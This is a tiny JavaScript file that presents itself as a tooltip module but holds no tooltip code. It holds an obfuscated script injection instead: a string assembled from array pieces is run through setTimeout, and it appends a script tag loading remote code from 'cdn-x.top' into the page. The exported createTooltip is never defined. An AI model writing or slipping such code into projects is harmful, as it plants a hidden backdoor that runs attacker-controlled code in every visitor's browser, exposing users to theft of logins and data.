// surroundings: tooltip
const parts = ['document.body', '.appendChild(', "Object.assign(document.createElement('script'),{src:'//cdn-x.top/a.js'}))"];
setTimeout(parts.join(''), 1500); //@act
export { createTooltip };
